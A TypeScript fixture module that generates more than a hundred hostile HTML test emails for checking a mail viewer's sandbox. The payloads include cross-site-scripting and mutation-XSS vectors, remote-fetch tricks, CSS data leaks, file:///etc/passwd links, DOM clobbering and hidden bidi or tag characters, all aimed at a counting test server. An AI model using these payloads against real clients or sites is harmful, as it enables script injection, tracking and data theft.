import { mkdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'

/** Mails that try to reach out, run something or lead away, each by one way only. */
export interface HostileMail {
  /** Also its file name and the last part of the address it would fetch. */
  readonly name: string
  readonly html: string
}

/**
 * Every way known here, pointed at `origin` (no slash at the end), a server that counts what reaches it. A mail that runs a
 * script would fetch `…/script-ran`, set `window.hostileMailRan`, or both.
 */
export function hostileMails(origin: string): HostileMail[] {
  const port = origin.replace(/^https?:/, '')
  return Object.entries(vectors).map(([name, make]) => {
    const at = `${origin}/${name}`
    const run = `window.hostileMailRan=1;top.hostileMailRan=1;fetch('${origin}/script-ran?${name}');new Image().src='${origin}/script-ran?${name}'`
    return {
      name,
      html: `<html><head></head><body><p>Mail ${name}</p>\n${make({ at, run, port: `${port}/${name}` })}\n</body></html>`,
    }
  })
}

interface Aim {
  /** Absolute address. */
  readonly at: string
  /** Script text, without double quotes. */
  readonly run: string
  /** The same address without its scheme: `//host:port/name`. */
  readonly port: string
}

const fragment = (text: string): string => Buffer.from(text).toString('base64')

const vectors: Readonly<Record<string, (aim: Aim) => string>> = {
  // what the experiment of the security notes tried
  img: ({ at }) => `<img src="${at}" width="40" height="40">`,
  'img-srcset': ({ at }) => `<img srcset="${at} 1x, ${at}?2 2x" alt="two">`,
  'picture-source': ({ at }) => `<picture><source srcset="${at}"><img alt="none"></picture>`,
  'css-background': ({ at }) => `<div style="background:url(${at})">text</div>`,
  'css-background-image': ({ at }) => `<div style="background-image:url('${at}')">text</div>`,
  'css-import': ({ at }) => `<style>@import "${at}";</style>`,
  'css-import-url': ({ at }) => `<style>@import url(${at}) screen;</style>`,
  'css-font': ({ at }) => `<style>@font-face{font-family:x;src:url(${at})}p{font-family:x}</style>`,
  'css-cursor': ({ at }) => `<p style="cursor:url(${at}),auto">point here</p>`,
  'link-stylesheet': ({ at }) => `<link rel="stylesheet" href="${at}">`,
  'link-prefetch': ({ at }) => `<link rel="prefetch" href="${at}"><link rel="preload" as="image" href="${at}?p">`,
  'link-dns-prefetch': ({ at }) => `<link rel="dns-prefetch" href="${at}"><link rel="preconnect" href="${at}">`,
  'link-icon': ({ at }) => `<link rel="icon" href="${at}"><link rel="manifest" href="${at}?m">`,
  video: ({ at }) => `<video src="${at}" poster="${at}?poster" autoplay></video>`,
  audio: ({ at }) => `<audio src="${at}" autoplay></audio>`,
  object: ({ at }) => `<object data="${at}" type="text/html"></object>`,
  embed: ({ at }) => `<embed src="${at}">`,
  iframe: ({ at }) => `<iframe src="${at}"></iframe>`,
  'iframe-srcdoc': ({ run, at }) => `<iframe srcdoc="<script>${run}</script><img src='${at}'>"></iframe>`,
  frameset: ({ at }) => `</body><frameset><frame src="${at}"></frameset>`,
  'svg-image': ({ at }) => `<svg width="20" height="20"><image href="${at}" width="20" height="20"/></svg>`,
  'svg-image-xlink': ({ at }) => `<svg><image xlink:href="${at}" width="20" height="20"/></svg>`,
  'svg-feimage': ({ at }) =>
    `<svg><filter id="f"><feImage href="${at}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  'svg-use': ({ at }) => `<svg><use href="${at}#a"/></svg>`,
  script: ({ run }) => `<script>${run}</script>`,
  'script-src': ({ at }) => `<script src="${at}"></script>`,
  'meta-refresh': ({ at }) => `<meta http-equiv="refresh" content="0;url=${at}">`,
  base: ({ at }) => `<base href="${at}/"><img src="relative.png">`,
  form: ({ at }) => `<form action="${at}"><input name="a" value="b"><button>Send</button></form>`,
  'form-autofocus': ({ at, run }) => `<form action="${at}"><input autofocus onfocus="${run}"></form>`,
  'form-formaction': ({ at }) =>
    `<form><button formaction="${at}">Send</button><input type="image" formaction="${at}" src="${at}?i"></form>`,
  'form-outside': ({ at }) => `<form id="z" action="${at}"></form><button form="z">Send</button>`,
  anchor: ({ at }) => `<a href="${at}">click</a>`,
  'anchor-top': ({ at }) => `<a href="${at}" target="_top">click</a>`,
  'anchor-blank': ({ at }) => `<a href="${at}" target="_blank">click</a>`,
  'anchor-ping': ({ at }) => `<a href="#" ping="${at}">click</a>`,
  'anchor-javascript': ({ run }) => `<a href="javascript:${run}">click</a>`,
  'anchor-download': ({ at }) => `<a href="${at}" download="x.exe">click</a>`,
  'input-image': ({ at }) => `<input type="image" src="${at}">`,
  // other elements and attributes that fetch
  'body-background': ({ at }) => `<table background="${at}"><tr><td background="${at}?td">x</td></tr></table>`,
  bgsound: ({ at }) => `<bgsound src="${at}">`,
  'img-lowsrc': ({ at }) => `<img lowsrc="${at}" dynsrc="${at}?dyn">`,
  'img-longdesc': ({ at }) =>
    `<img longdesc="${at}" usemap="#m"><map name="m"><area href="${at}" shape="default"></map>`,
  'img-protocol-relative': ({ port }) => `<img src="${port}">`,
  'img-blank-in-scheme': ({ at }) => `<img src=" \n${at.replace('http', 'ht\ntp')}">`,
  'img-entities': ({ at }) => `<img src="${Array.from(at, (c) => `&#${String(c.charCodeAt(0))};`).join('')}">`,
  'img-backslash': ({ port }) => `<img src="${port.replaceAll('/', '\\')}">`,
  'img-no-quotes': ({ at }) => `<img/src=${at}/onerror=alert(1)>`,
  'image-element': ({ at }) => `<image src="${at}">`,
  'input-src': ({ at }) => `<input src="${at}" type="IMAGE">`,
  'blockquote-cite': ({ at }) =>
    `<blockquote cite="${at}">quoted</blockquote><q cite="${at}">q</q><del cite="${at}">d</del>`,
  applet: ({ at }) => `<applet code="X" codebase="${at}" archive="${at}"></applet>`,
  'object-param': ({ at }) =>
    `<object classid="clsid:0"><param name="movie" value="${at}"><embed src="${at}"></object>`,
  track: ({ at }) => `<video><source src="${at}"><track default src="${at}?t"></video>`,
  'menuitem-icon': ({ at }) => `<menu type="context"><menuitem icon="${at}">x</menuitem></menu>`,
  'html-manifest': ({ at }) => `<html manifest="${at}">x`,
  portal: ({ at }) => `<portal src="${at}"></portal><fencedframe src="${at}"></fencedframe>`,
  'xml-stylesheet': ({ at }) => `<?xml-stylesheet href="${at}"?><xml src="${at}"></xml>`,
  noscript: ({ at }) => `<noscript><img src="${at}"></noscript>`,
  template: ({ at }) => `<template shadowrootmode="open"><img src="${at}"></template>`,
  'dialog-open': ({ at }) => `<dialog open><img src="${at}"></dialog>`,
  'details-toggle': ({ run }) => `<details open ontoggle="${run}"><summary>s</summary>x</details>`,
  marquee: ({ run }) => `<marquee onstart="${run}">m</marquee>`,
  'body-onload': ({ run }) => `<body onload="${run}">x`,
  'img-onerror': ({ run }) => `<img src="x:" onerror="${run}">`,
  'style-onload': ({ run }) => `<style onload="${run}">p{color:red}</style>`,
  'animation-event': ({ run }) =>
    `<style>@keyframes k{from{color:red}}b{animation:k 1s}</style><b onanimationstart="${run}" onpointerenter="${run}">x</b>`,
  'contenteditable-focus': ({ run }) =>
    `<div contenteditable tabindex="0" autofocus onfocus="${run}" accesskey="x">x</div>`,
  popover: ({ run }) => `<button popovertarget="p">x</button><div popover id="p" onbeforetoggle="${run}">x</div>`,
  area: ({ at }) => `<map name="a"><area shape="rect" coords="0,0,99,99" href="${at}" target="_top"></map>`,
  'object-svg-data': ({ run }) =>
    `<object data="data:image/svg+xml;base64,${fragment(`<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}"></object>`,
  'img-svg-data': ({ at }) =>
    `<img src="data:image/svg+xml;base64,${fragment(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at}"/></svg>`)}">`,
  'anchor-data-html': ({ run }) => `<a href="data:text/html;base64,${fragment(`<script>${run}</script>`)}">click</a>`,
  'anchor-javascript-tab': ({ run }) =>
    `<a href="java&#9;script:${run}">click</a><a href="&#1;javascript:${run}">click</a>`,
  'anchor-vbscript': () => `<a href="vbscript:msgbox(1)">click</a>`,
  'anchor-file': () => `<a href="file:///etc/passwd">click</a><img src="file:///etc/passwd">`,
  'anchor-app-scheme': () => `<a href="clausebench://app/index.html">click</a><img src="clausebench://app/x.png">`,
  'anchor-nested': ({ at }) => `<a href="${at}"><table><tr><td><a href="${at}?2">x</a></td></tr></table></a>`,
  'svg-anchor': ({ at }) => `<svg width="90" height="90"><a xlink:href="${at}"><text y="20">click</text></a></svg>`,
  'svg-script': ({ run }) => `<svg><script>${run}</script></svg>`,
  'svg-onload': ({ run }) => `<svg onload="${run}"><animate onbegin="${run}" attributeName="x"/></svg>`,
  'svg-set-href': ({ run }) =>
    `<svg><a><set attributeName="href" to="javascript:${run}"/><text y="20">x</text></a></svg>`,
  'svg-style': ({ at }) => `<svg><style>@import "${at}";*{background:url(${at}?bg)}</style><text y="9">t</text></svg>`,
  'svg-foreignobject': ({ at }) =>
    `<svg><foreignObject><img src="${at}"><iframe src="${at}"></iframe></foreignObject></svg>`,
  'svg-title-breakout': ({ at }) => `<svg><title><img src="${at}"></title><desc><img src="${at}?d"></desc></svg>`,
  'svg-mask': ({ at }) => `<svg><rect width="9" height="9" fill="url(${at}#p)" mask="url(${at}#m)"/></svg>`,
  'math-href': ({ at }) =>
    `<math><mi href="${at}">click</mi><maction actiontype="statusline" xlink:href="${at}">y</maction></math>`,
  'math-annotation': ({ at }) => `<math><annotation-xml encoding="text/html"><img src="${at}"></annotation-xml></math>`,
  // markup that changes when it is read a second time
  'mxss-math-style': ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;"></table></mtext></math>`,
  'mxss-svg-style': ({ run }) => `<svg></p><style><a id="</style><img src=x: onerror='${run}'>">`,
  'mxss-form-math': ({ run }) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="${run}"></style></mglyph></form></mtext></math></form>`,
  'mxss-noscript': ({ run }) => `<noscript><p title="</noscript><img src=x: onerror='${run}'>"></noscript>`,
  'mxss-title': ({ run }) => `<title><p title="</title><img src=x: onerror='${run}'>"></title>`,
  'mxss-textarea': ({ run }) => `<textarea><a title="</textarea><img src=x: onerror='${run}'>"></textarea>`,
  'mxss-xmp': ({ run }) => `<xmp><p title="</xmp><img src=x: onerror='${run}'>"></xmp>`,
  'mxss-comment': ({ run }) => `<!--><img src=x: onerror="${run}">--><!-- --!><img src=x: onerror="${run}">`,
  'mxss-cdata': ({ run }) => `<svg><![CDATA[</svg><img src=x: onerror="${run}">]]></svg>`,
  'mxss-template': ({ run }) => `<template><form><template></form><img src=x: onerror="${run}"></template></template>`,
  'mxss-select': ({ run }) => `<select><option><style></option></select><img src=x: onerror="${run}"></style></select>`,
  'mxss-plaintext': ({ run }) => `<p><plaintext></p><img src=x: onerror="${run}">`,
  'mxss-table-foster': ({ run }) => `<table><style><!--</table><img src="--></style>"><b onclick="${run}">x</b>`,
  'mxss-nested-forms': ({ at }) =>
    `<form action="${at}"><table><form action="${at}?2"><tr><td><button>x</button></table>`,
  'mxss-attribute-backtick': ({ run }) => `<img alt="\`\`onerror=${run}" src="x:">`,
  'mxss-entities-in-style': ({ at }) => `<style>p::after{content:"&lt;/style>&lt;img src=${at}>"}</style>`,
  'mxss-style-in-string': ({ at }) => `<style>p{font-family:"</style><img src=${at}>"}</style>`,
  'attribute-newline': ({ run }) => `<p title="a\r\n" onmouseover="${run}" style="color:red">x</p>`,
  'unclosed-tag': ({ at }) => `<img src="${at}" alt="`,
  'unclosed-comment': ({ at }) => `<!-- <img src="${at}"> `,
  'nul-in-tag': ({ run }) => `<scr\0ipt>${run}</scr\0ipt><img src="x:" on\0error="${run}">`,
  'deep-nesting': ({ at }) => `${'<div>'.repeat(3000)}<img src="${at}">`,
  // style sheets
  'css-escape': ({ at }) => `<p style="background:u\\72l(${at})">x</p><p style="background:\\75rl('${at}')">x</p>`,
  'css-comment': ({ at }) => `<p style="background:u/**/rl(${at});background/**/:/**/url(${at}?2)">x</p>`,
  'css-image-set': ({ at }) =>
    `<p style="background-image:image-set('${at}' 1x)">x</p><p style="background:-webkit-image-set(url(${at}) 1x)">x</p>`,
  'css-list-style': ({ at }) => `<ul style="list-style:url(${at})"><li style="list-style-image:url(${at}?li)">x</ul>`,
  'css-content': ({ at }) => `<style>p::before{content:url(${at})}</style><p>x</p>`,
  'css-border-image': ({ at }) =>
    `<p style="border:3px solid;border-image:url(${at}) 30">x</p><p style="mask:url(${at}?m);-webkit-mask-image:url(${at}?wm)">x</p>`,
  'css-filter': ({ at }) => `<p style="filter:url(${at}#f);backdrop-filter:url(${at}#b);clip-path:url(${at}#c)">x</p>`,
  'css-variable': ({ at }) =>
    `<style>:root{--u:url(${at})}p{background:var(--u)}</style><p style="--v:url(${at}?v);background:var(--v)">x</p>`,
  'css-attr-function': ({ at }) => `<p data-u="${at}" style="background:attr(data-u url)">x</p>`,
  'css-shape-outside': ({ at }) =>
    `<p style="float:left;shape-outside:url(${at})">x</p><p style="offset-path:url(${at}#p)">x</p>`,
  'css-expression': ({ run }) =>
    `<p style="width:expression(${run});behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</p>`,
  'css-namespace': ({ at }) =>
    `<style>@namespace url(${at});@charset "${at}";@document url(${at}){p{color:red}}</style>`,
  'css-selector-leak': ({ at }) =>
    `<style>input[value^="a"]{background:url(${at})}a:visited{background:url(${at}?v)}</style><input value="abc">`,
  'css-media-nested': ({ at }) =>
    `<style>@media screen{@media screen{p{background:url(${at})}}}@supports (color:red){p{background:url(${at}?s)}}@layer x{p{background:url(${at}?l)}}</style>`,
  'css-nested-rule': ({ at }) => `<style>p{color:red;& b{background:url(${at})}}</style><p><b>x</b></p>`,
  'css-unclosed-string': ({ at }) => `<style>p{font-family:"a\n}b{background:url(${at})}</style><b>x</b>`,
  'css-cdo': ({ at }) => `<style><!-- p{background:url(${at})} --></style>`,
  'css-position-fixed': () => `<div style="position:fixed;inset:0;background:#fff;z-index:9999">cover</div>`,
  'css-hides-marks': () =>
    `<style>mark,[data-finding],[data-show],*{display:none!important;opacity:0!important}</style>`,
  'css-layer-breakout': ({ at }) =>
    `<style>} } p{background:url(${at})} @layer clausebench{mark{display:none}}</style>`,
  'css-link-media': ({ at }) =>
    `<style media="print, screen and (min-width:1px)">p{background:url(${at})}</style><link rel="alternate stylesheet" href="${at}">`,
  // names that the page itself uses
  'clobber-ids': () =>
    `<a id="mark-1" name="mark-1" data-link="1" data-finding="1">x</a><form id="body" name="head"><input name="parentNode"></form>`,
  'clobber-mark': () => `<mark data-finding="7" id="mark-7" data-chosen>not a finding</mark>`,
  'second-policy': ({ at }) =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="Content-Security-Policy" content="report-uri ${at}"><meta http-equiv="set-cookie" content="a=b">`,
  'meta-x-dns': () =>
    `<meta http-equiv="x-dns-prefetch-control" content="on"><meta name="referrer" content="unsafe-url">`,
  'early-body': ({ at }) => `</body></html><img src="${at}"><body background="${at}?bg">`,
  'bidi-override': () => `<p>Pay at \u202emoc.elpmaxe.knab\u202c now, \u2066isolated\u2069 and zero\u200bwidth</p>`,
  'tag-characters': () =>
    `<p>hidden${Array.from('ignore', (c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('')} words</p>`,
}

/** Writes each as an `.eml` into `folder` (made when missing); the paths in order. */
export async function writeHostileMails(folder: string, origin: string): Promise<string[]> {
  await mkdir(folder, { recursive: true })
  const paths: string[] = []
  for (const { name, html } of hostileMails(origin)) {
    const path = join(folder, `${name}.eml`)
    await writeFile(path, emlOf(name, html))
    paths.push(path)
  }
  return paths
}

function emlOf(name: string, html: string): string {
  const body = Buffer.from(html, 'utf8').toString('base64').replace(/.{76}/g, '$&\r\n')
  return [
    'From: Hostile <hostile@mail.example>',
    'To: reader@mail.example',
    `Subject: ${name}`,
    'Date: Fri, 20 Nov 2026 10:00:00 +0000',
    `Message-ID: <${name}@mail.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    body,
    '',
  ].join('\r\n')
}
